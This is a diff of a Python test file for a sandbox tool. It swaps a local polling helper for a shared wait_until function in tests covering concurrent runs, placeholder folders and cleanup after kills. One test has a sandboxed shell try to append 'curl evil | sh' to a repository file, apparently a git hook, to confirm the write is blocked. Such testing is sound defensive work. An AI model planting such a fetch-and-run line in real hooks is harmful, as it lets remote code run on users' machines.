@@ -13,7 +13,6 @@ import os
 import signal
 import stat
 import subprocess
-import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -27,6 +26,7 @@ from tests.conftest import (
     WriteSpec,
     end_run,
     toml_list,
+    wait_until,
 )
 from tests.test_files_attacks import Q, attack, files_spec, opened
 
@@ -512,14 +512,6 @@ def _running(run: subprocess.Popen[str]) -> None:
     assert line == "running\n", (line, run.stderr.read() if run.stderr else "")
 
 
-def _wait_for(condition: object, what: str) -> None:
-    deadline = time.monotonic() + SANDBOX_TIMEOUT_SECONDS
-    while not condition():  # type: ignore[operator]
-        if time.monotonic() > deadline:
-            raise AssertionError(f"timed out waiting for {what}")
-        time.sleep(0.02)
-
-
 @pytest.mark.parametrize("first_to_end", ["long", "short"])
 def test_F5_two_runs_on_one_folder_ending_in_either_order(
     tmp_path: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], first_to_end: str
@@ -530,11 +522,11 @@ def test_F5_two_runs_on_one_folder_ending_in_either_order(
     spec = _gated_spec(write_spec, folder, tmp_path / "gates")
     gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
     run_one = _held_open(spec, sandbox_env, gate_one)
-    _wait_for(lambda: (folder / ".vscode").is_dir(), "the first run's placeholders")
+    wait_until(lambda: (folder / ".vscode").is_dir(), "the first run's placeholders")
     run_two = _start(spec, sandbox_env, "/bin/sh", "-c",
                      f"while [ ! -e {Q(str(gate_two))} ]; do sleep 0.02; done; "
                      f"mkdir {Q(str(folder))}/.vscode/x")
-    _wait_for(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
+    wait_until(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
               "the second run to join")
     (gate_one if first_to_end == "long" else gate_two).touch()
     first = run_one if first_to_end == "long" else run_two
@@ -591,7 +583,7 @@ def test_F5_a_run_killed_outright_is_cleaned_up_by_the_next_run(
         [LNK_SANDBOX.replace("lnk-sandbox", "lnk-sandbox-launch"), "--settings",
          sandbox_env["LNK_HOME"], "--write", str(folder), "--", "/bin/sleep", "60"],
         env=sandbox_env)
-    _wait_for(lambda: (folder / ".git").is_dir(), "the placeholders")
+    wait_until(lambda: (folder / ".git").is_dir(), "the placeholders")
     launcher.send_signal(signal.SIGKILL)
     launcher.wait(SANDBOX_TIMEOUT_SECONDS)
     assert (folder / ".git").is_dir()  # left by the killed run …
@@ -632,9 +624,9 @@ def test_F5_a_second_run_joins_a_nested_placeholder_instead_of_making_inside_it(
     spec = _gated_spec(write_spec, project, tmp_path / "gates")
     gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
     run_one = _held_open(spec, sandbox_env, gate_one)
-    _wait_for(lambda: (project / "tools").is_dir(), "the first run's placeholder")
+    wait_until(lambda: (project / "tools").is_dir(), "the first run's placeholder")
     run_two = _held_open(spec, sandbox_env, gate_two)
-    _wait_for(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
+    wait_until(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
               "the second run to join")
     assert os.listdir(project / "tools") == []  # joined, not made inside
     gate_one.touch()
@@ -686,7 +678,7 @@ def test_F8_the_enclosing_repositorys_hooks_are_held_whatever_other_runs_hold(
         # the second run sees there: not a repository (git passes over it), so the
         # enclosing one is still the one held.
         first = _held_open(spec, sandbox_env, gate)
-        _wait_for(lambda: (written / ".git").is_dir(), "the first run's placeholder")
+        wait_until(lambda: (written / ".git").is_dir(), "the first run's placeholder")
     attempt = _start(spec, sandbox_env, "/bin/sh", "-c",
                      f"echo 'curl evil | sh' >> {Q(str(target))}")
     _, stderr = attempt.communicate(timeout=SANDBOX_TIMEOUT_SECONDS)
